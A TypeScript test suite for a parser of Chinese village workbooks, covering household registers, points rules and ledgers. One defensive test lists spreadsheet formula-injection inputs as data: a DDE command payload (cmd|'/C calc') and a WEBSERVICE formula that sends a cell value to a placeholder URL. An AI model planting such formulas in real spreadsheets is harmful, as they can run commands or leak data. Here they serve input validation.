import { describe, expect, it } from 'vitest'
import type { Cell } from '../../../server/domain/workbook/cells/cells.ts'
import { readOffice, type Sheet } from '../../../server/domain/workbook/index.ts'
import { packOffice, unpackOffice } from '../../../server/domain/workbook/ledgers/packing.ts'
import { households, ledgerHeader, nothingKnown, office, rules, sheet, withLines } from './office.ts'

function refusal(sheets: Sheet[], context = nothingKnown) {
  const reading = readOffice(sheets, context)
  return reading.ok ? null : reading.refusal
}

const line: Cell[] = ['2026-03-05', 1, null, '参加村民会议', 20]

describe('a list of households', () => {
  it('is read below title and date, with the group written once', () => {
    const read = office([
      sheet(
        '表一',
        ['晓塘村户籍册'],
        ['填表日期:2026年1月1日'],
        ['序号', '组 别', '门牌\n号', '户主姓名', '家庭人口(人)', '联系电话', '备注'],
        [1, '1组', '1001号', '贾春娟', 3, 13861321091, null],
        [2, null, 1002, '宋 春发', '6人', '156 0953 0955', '低保'],
        [null, '1组小计', null, null, 9],
        [],
        [3, '第二组', '晓塘村2001号', '熊永法', null, null, null],
      ),
    ])
    expect(read.households).toEqual([
      {
        sheet: '表一',
        row: 4,
        door: '1001',
        head: '贾春娟',
        group: '1组',
        members: 3,
        phone: '13861321091',
        note: null,
      },
      {
        sheet: '表一',
        row: 5,
        door: '1002',
        head: '宋春发',
        group: '1组',
        members: 6,
        phone: '15609530955',
        note: '低保',
      },
      {
        sheet: '表一',
        row: 8,
        door: '2001',
        head: '熊永法',
        group: '2组',
        members: null,
        phone: null,
        note: null,
      },
    ])
  })

  it('keeps the first of two lines with one door, and names both', () => {
    const read = office([sheet('户册', ['门牌号', '户主'], ['1号', '张三'], ['１号', '张三'], [2, '李四'])])
    expect(read.households.map(({ door }) => door)).toEqual(['1', '2'])
    expect(read.duplicateDoors).toEqual([
      { sheet: '户册', row: 3, door: '1', head: '张三', first: { sheet: '户册', row: 2 } },
    ])
  })

  it('leaves out households without a door and says which', () => {
    const read = office([
      sheet(
        '户册',
        ['组别', '门牌号', '户主'],
        ['1组', null, '张三'],
        [null, null, '李四'],
        [null, 2, '王五'],
      ),
    ])
    expect(read.households).toHaveLength(1)
    expect(read.rowsWithoutDoor).toEqual([
      { sheet: '户册', row: 2, head: '张三' },
      { sheet: '户册', row: 3, head: '李四' },
    ])
  })

  it.each<[string, Cell[]]>([
    ['no-head', ['1号', null, '1组']],
    ['bad-door', [new Date('2026-12-03T00:00:00Z'), '张三', '1组']],
    ['bad-door', ['一号楼二单元三零一室以及旁边的那间辅房和后面的车库各一', '张三', '1组']],
    ['head-too-long', ['1号', '张'.repeat(33), '1组']],
  ])('has a problem %s where a line cannot be a household', (problem, row) => {
    const read = office([sheet('户册', ['门牌号', '户主', '组别'], row)])
    expect(read.households).toEqual([])
    expect(read.problems).toMatchObject([{ row: 2, problem }])
  })

  it.each<[string, Sheet, string]>([
    ['from its sheet', sheet('第三组', ['门牌号', '户主'], [1, '张三']), '3组'],
    ['from a line above', sheet('户册', ['门牌号', '户主'], ['东浜组'], [1, '张三']), '东浜组'],
    ['from its title', sheet('户册', ['示范村第三村民组名册'], ['门牌号', '户主'], [1, '张三']), '3组'],
    ['by no word', sheet('户册', ['门牌号', '户主'], [1, '张三']), '未分组'],
  ])('takes the group %s where it has no column for it', (_, list, group) => {
    expect(office([list]).households.map((household) => household.group)).toEqual([group])
  })

  it.each([
    ['第一组（组长：张三）', '1组'],
    ['一组（共2户）', '1组'],
    ['第二组 组长 王五 电话 13900000000', '2组'],
    ['东浜组（23户）', '东浜组'],
  ])('carries the group of the heading %s', (heading, group) => {
    const list = sheet('户册', ['门牌号', '户主', '人口'], [heading], [1, '张三', 3], ['小计', '1户', 3])
    expect(office([list]).households).toMatchObject([{ door: '1', group }])
  })

  it('takes the group that stands in front of a door where nothing else names one', () => {
    const list = sheet(
      '户册',
      ['家庭住址', '姓名'],
      ['3组12号', '张三'],
      ['二组7号', '李四'],
      ['8号', '王五'],
    )
    expect(office([list]).households.map(({ door, group }) => [door, group])).toEqual([
      ['3组12', '3组'],
      ['二组7', '2组'],
      ['8', '未分组'],
    ])
  })

  it('says where the number of people is not that of the people listed', () => {
    const people = [
      ['1号', '张三', '户主'],
      ['1号', '王梅', '妻'],
      ['2号', '李四', '户主'],
    ]
    const read = office([
      sheet('户册', ['门牌号', '户主', '人口'], ['1号', '张三', 3]),
      sheet('人口册', ['门牌号', '姓名', '与户主关系'], ...people),
    ])
    expect(read.households).toMatchObject([{ members: 3 }, { members: 1 }])
    expect(read.cautions).toMatchObject([{ cell: 'C2', caution: 'members-unlike-people', value: '3 ≠ 2' }])
  })

  it.each([
    ['13900000001/13900000002', '13900000001', 'phones-left'],
    ['0500-8888888 13900000002', '05008888888', 'phones-left'],
    ['1.39E+10', null, 'phone-unclear'],
  ])('says what it does with the telephones %s', (cell, phone, caution) => {
    const read = office([sheet('户册', ['门牌号', '户主', '电话'], [1, '张三', cell])])
    expect(read.households).toMatchObject([{ phone }])
    expect(read.cautions).toMatchObject([{ cell: 'C2', caution }])
  })

  it('leaves out what is unclear of telephone and people, with a caution', () => {
    const read = office([sheet('户册', ['门牌号', '户主', '人口', '电话'], [1, '张三', '几个', '村里代转'])])
    expect(read.households).toMatchObject([{ members: null, phone: null }])
    expect(read.cautions.map(({ cell, caution }) => [cell, caution])).toEqual([
      ['C2', 'members-unclear'],
      ['D2', 'phone-unclear'],
    ])
  })
})

describe('a sheet of rules', () => {
  it('carries the dimension down and keeps the words it does not understand', () => {
    const read = office([
      sheet(
        '细则',
        ['类别', '序号', '内容', '分值', '上限及说明'],
        ['环境卫生', 1, '庭院月检', '0-100', '按检查表得分,每月一次'],
        [null, 2, '乱堆乱放', '-20', '每处,须拍照'],
      ),
    ])
    expect(read.rules.map(({ dimension, text, notUnderstood }) => [dimension, text, notUnderstood])).toEqual([
      ['环境卫生', '庭院月检', ['按检查表得分']],
      ['环境卫生', '乱堆乱放', []],
    ])
  })

  it('takes dimension and sign from headings between the rules', () => {
    const read = office([
      sheet(
        '标准',
        ['序号', '积分项目', '标准', '说明'],
        ['一、环境卫生'],
        [1, '庭院整洁', 10],
        ['二、扣分项'],
        [2, '乱扔垃圾', 5],
        ['注:由村委会解释'],
      ),
    ])
    expect(read.rules.map(({ dimension, text, terms }) => [dimension, text, terms.effect])).toEqual([
      ['环境卫生', '庭院整洁', 'award'],
      ['环境卫生', '乱扔垃圾', 'deduct'],
    ])
  })

  it('may have columns of its own for giving and taking', () => {
    const read = office([
      sheet(
        '细则',
        ['分类', '项目', '奖分', '扣分'],
        ['卫生', '庭院整洁', 10, null],
        ['卫生', '乱扔垃圾', null, 5],
      ),
    ])
    expect(read.rules.map(({ terms }) => [terms.effect, terms.scale])).toEqual([
      ['award', { type: 'fixed', points: 10 }],
      ['deduct', { type: 'fixed', points: 5 }],
    ])
  })

  it.each<[string, Cell[]]>([
    ['rule-without-points', ['卫生', '庭院整洁', null]],
    ['rule-points-unclear', ['卫生', '庭院整洁', '视情况']],
    ['rule-too-long', ['卫生', '洁'.repeat(61), 10]],
  ])('has a problem %s', (problem, row) => {
    const read = office([sheet('细则', ['类别', '内容', '分值'], row)])
    expect(read.rules).toEqual([])
    expect(read.problems).toMatchObject([{ row: 2, problem }])
  })

  it('keeps the first of two writings of one rule', () => {
    const read = office([
      sheet('细则', ['类别', '内容', '分值'], ['卫生', '庭院(月检)', 10], ['卫生', '庭院（月检）', 20]),
    ])
    expect(read.rules).toMatchObject([{ terms: { scale: { points: 10 } } }])
    expect(read.problems).toMatchObject([{ row: 3, cell: 'B3', problem: 'rule-twice' }])
  })

  it('calls a rule as the village already does', () => {
    const known = { text: '庭院（月检）', dimension: '卫生', terms: office([rules]).rules[0]!.terms }
    const read = office([sheet('细则', ['类别', '内容', '分值'], ['卫生', '庭院(月检)', 10])], {
      ...nothingKnown,
      known: { doors: [], rules: [known] },
    })
    expect(read.rules.map(({ text }) => text)).toEqual(['庭院（月检）'])
  })
})

describe("another village's workbook", () => {
  const workbook = [
    sheet('说明', ['本表由村委会负责'], ['每月更新一次']),
    sheet(
      'Sheet2',
      ['东浜村积分记录 2026'],
      ['发生日期', '积分', '记录人', '房号', '积分项目', '姓名'],
      [46086, '+5', '小王', '甲12', '庭院 整洁', '赵 六'],
      ['3月6日', 3, '小王', '12-3', '乱扔垃圾', '钱七'],
      ['20260307', '-3', '小王', '甲12号', '乱扔垃圾', '赵六'],
      ['本页合计', 5],
    ),
    sheet(
      'Sheet3',
      ['户主姓名', '房号', '村民小组'],
      ['赵六', '甲12号', '东浜村民小组'],
      ['钱七', '12—3', '西浜村民小组'],
    ),
    sheet(
      'Sheet4',
      ['维度', '积分项目', '积分标准', '限额'],
      ['家园', '庭院整洁', '5分', '每周一次'],
      ['家园', '乱扔垃圾', '-3分/次', null],
    ),
  ]

  it('is known by its headers, whatever the names and order of sheets and columns', () => {
    const read = office(workbook, { ...nothingKnown, village: '东浜村' })
    expect(read.sheets.map(({ name, kind, fate }) => [name, kind, fate])).toEqual([
      ['说明', 'other', 'nothing-recognized'],
      ['Sheet2', 'ledger', null],
      ['Sheet3', 'households', null],
      ['Sheet4', 'rules', null],
    ])
    expect(read.households.map(({ door, head, group }) => [door, head, group])).toEqual([
      ['甲12', '赵六', '东浜组'],
      ['12-3', '钱七', '西浜组'],
    ])
    expect(read.problems).toEqual([])
    expect(read.lines.map(({ door, points, occurredOn }) => [door, points, occurredOn])).toEqual([
      ['甲12', 5, '2026-03-05'],
      ['12-3', -3, '2026-03-06'],
      ['甲12', -3, '2026-03-07'],
    ])
  })

  it('may have a header of two lines', () => {
    const read = office([
      households,
      rules,
      sheet(
        '台账',
        ['日期', '门牌号', '事项', '积分', null, '经办人'],
        [null, null, null, '加分', '扣分', null],
        ['2026-03-05', 1, '参加村民会议', 20, null, '陆'],
        ['2026-03-05', 1, '乱堆乱放', null, 20, '陆'],
      ),
    ])
    expect(read.lines.map(({ points, clerk }) => [points, clerk])).toEqual([
      [20, '陆'],
      [-20, '陆'],
    ])
  })
})

describe('a workbook that says things twice', () => {
  it('may rank the households of its list: the ranking is no second list', () => {
    const ranking = sheet(
      '排名',
      ['名次', '门牌号', '户主', '总分'],
      [1, '2号', '李四', 90],
      [2, '1号', '张三', 80],
    )
    const formulas = [{ cell: 'C2', text: 'VLOOKUP(B2,户册!B:C,2)', saved: false }]
    const read = office([{ ...ranking, formulas }, households])
    expect(read.sheets.map(({ kind }) => kind)).toEqual(['other', 'households'])
    expect(read.households.map(({ door }) => door)).toEqual(['1', '2', '3'])
    expect(read.duplicateDoors).toEqual([])
  })

  it('may list each group on a sheet of its own', () => {
    const group = (name: string, ...doors: number[]) =>
      sheet(name, ['门牌号', '户主'], ...doors.map((door): Cell[] => [door, `户${door}`]))
    const read = office([group('1组', 1, 2), group('2组', 3, 4)])
    expect(read.households.map(({ door, group }) => [door, group])).toEqual([
      ['1', '1组'],
      ['2', '1组'],
      ['3', '2组'],
      ['4', '2组'],
    ])
  })

  const days = (month: string) =>
    Array.from({ length: 28 }, (_, day): Cell[] => [`2026-${month}-${day + 1}`, 1, null, '参加村民会议', 20])

  it('is read whole where months resemble each other', () => {
    const months = ['03', '04'].map((month) => sheet(month, ledgerHeader, ...days(month)))
    const read = office([households, rules, ...months])
    expect([read.lines.length, read.questions]).toEqual([56, []])
  })
})

describe('a workbook with sheets missing', () => {
  const ledgerAlone = [sheet('台账', ledgerHeader, line)]
  const village = office([households, rules])
  const known = { doors: village.households, rules: village.rules }

  it('may be a ledger alone, read against what the village has', () => {
    expect(office(ledgerAlone, { ...nothingKnown, known }).lines).toMatchObject([
      { door: '1', rule: '参加村民会议', dimension: '会议学习', points: 20 },
    ])
  })

  it('may be a list of households alone, or rules alone', () => {
    expect(office([households]).households).toHaveLength(3)
    expect(office([rules]).rules).toHaveLength(4)
  })

  it('is refused when its ledger has nothing to be read against', () => {
    expect(refusal(ledgerAlone)).toEqual({ code: 'no-households', params: { sheet: '台账' } })
    expect(refusal([households, ...ledgerAlone])).toEqual({ code: 'no-rules', params: { sheet: '台账' } })
  })

  it('is refused when nothing in it is known', () => {
    expect(refusal([sheet('Sheet1', ['甲', '乙'], [1, 2])])).toEqual({
      code: 'nothing-recognized',
      params: {},
    })
    expect(refusal([])).toEqual({ code: 'nothing-recognized', params: {} })
  })
})

describe('a sheet that lacks a column', () => {
  it.each<[string, Cell[], string[]]>([
    ['日期', ['门牌号', '户主', '事项', '加分', '活动时间段'], ['E', 'leave']],
    ['门牌号', ['日期', '户主', '事项', '加分', '哪家'], ['E', 'by-head', 'leave']],
    ['事项', ['日期', '门牌号', '加分', '扣分', '做了什么'], ['E', 'no-item', 'leave']],
    ['加分', ['日期', '门牌号', '事项', '户主', '几分'], ['E', 'leave']],
  ])('%s, in a ledger, is asked about by sheet and row', (column, header, choices) => {
    const ledger = sheet('台账', ['台账标题'], header, [1, 1, 1, 1, 1])
    const read = office([households, rules, ledger])
    expect(read.sheets.at(-1)).toMatchObject({ kind: 'other', fate: 'missing-column' })
    expect(read.questions).toMatchObject([
      { code: 'missing-column', sheet: '台账', row: 2, params: { column, nearest: header[4] }, preset: null },
    ])
    expect(read.questions[0]?.choices.map(({ value }) => value)).toEqual(choices)
  })

  it('is read by the column that somebody chose, or left out', () => {
    const ledger = sheet('7月', ['活动时间段', '门牌号', '事项', '加分'], ['2026.7.5', 1, '参加村民会议', 20])
    const workbook = [households, rules, ledger]
    const { id = '' } = office(workbook).questions[0] ?? {}
    const read = office(workbook, { ...nothingKnown, answers: { [id]: 'A' } })
    expect(read.lines).toMatchObject([{ row: 2, points: 20, occurredOn: '2026-07-05' }])
    const left = office(workbook, { ...nothingKnown, answers: { [id]: 'leave' } })
    expect([left.lines, left.sheets.at(-1)?.fate]).toEqual([[], 'left-out'])
  })

  it.each<[string, string, Sheet]>([
    ['分值', '细则', sheet('细则', ['类别', '内容', '限额'], ['卫生', '庭院整洁', '每月一次'])],
    ['门牌号', '户册', sheet('户册', ['组别', '户主'], ['1组', '张三'])],
  ])('%s is refused in a workbook of nothing else, though the village has some', (column, name, alone) => {
    const { households: doors, rules: texts } = office([households, rules])
    expect(refusal([alone], { ...nothingKnown, known: { doors, rules: texts } })).toEqual({
      code: 'missing-column',
      params: { sheet: name, row: 1, column },
    })
  })

  it('is asked about though another sheet of its kind is whole', () => {
    const summary = sheet('红榜', ['户主', '组别', '事项', '加分'], ['张三', '1组', '参加村民会议', 20])
    const read = office([...withLines(line), summary])
    expect(read.lines).toHaveLength(1)
    expect(read.questions.map(({ sheet, params }) => [sheet, params.column])).toEqual([
      ['红榜', '日期'],
      ['红榜', '门牌号'],
    ])
  })
})

describe('a formula', () => {
  const ledger = sheet('台账', ledgerHeader, line, [null, '合计', null, null, 20])

  it.each(['B2', 'D2', 'E2', 'A2'])('in %s, where the ledger is read, is refused', (cell) => {
    const formulas = [{ cell, text: 'A1+1', saved: false }]
    expect(refusal([households, rules, { ...ledger, formulas }])).toEqual({
      code: 'formula',
      params: { sheet: '台账', cell },
    })
  })

  it('is harmless in a line of sums, above the header and in columns that are not read', () => {
    const formulas = [
      { cell: 'E3', text: 'SUM(E2:E2)', saved: false },
      { cell: 'A1', text: 'TODAY()', saved: false },
      { cell: 'Z2', text: 'ROW()-1', saved: false },
    ]
    expect(office([households, rules, { ...ledger, formulas }]).lines).toHaveLength(1)
  })

  it.each([
    '[1]Sheet1!A1',
    "'[2]别的表'!A1",
    `cmd|'/C calc'!A0`,
    'WEBSERVICE("http://example.org/"&A1)',
    'HYPERLINK("http://example.org/","看")',
  ])('that reaches outside is refused wherever it stands: %s', (text) => {
    const notes = { ...sheet('杂记', ['x']), formulas: [{ cell: 'A1', text, saved: false }] }
    expect(refusal([households, notes])).toEqual({
      code: 'outward-formula',
      params: { sheet: '杂记', cell: 'A1' },
    })
  })

  it.each(['HYPERLINK("#户册!A1","返回")', 'TEXTJOIN("|",TRUE,A1:B1)', 'SUM(表1[积分])'])(
    'that stays inside may stand beside: %s',
    (text) => {
      const notes = { ...sheet('杂记', ['x']), formulas: [{ cell: 'A1', text, saved: false }] }
      expect(office([households, notes]).households).toHaveLength(3)
    },
  )
})

it('travels packed without a loss', () => {
  const read = office(
    withLines(
      line,
      ['2026-03-06', 2, '李四', '乱堆乱放', null, 20, '陆', '门口'],
      ['x', 1, null, '参加村民会议', 20],
    ),
  )
  expect(unpackOffice(JSON.parse(JSON.stringify(packOffice(read))))).toEqual(read)
})
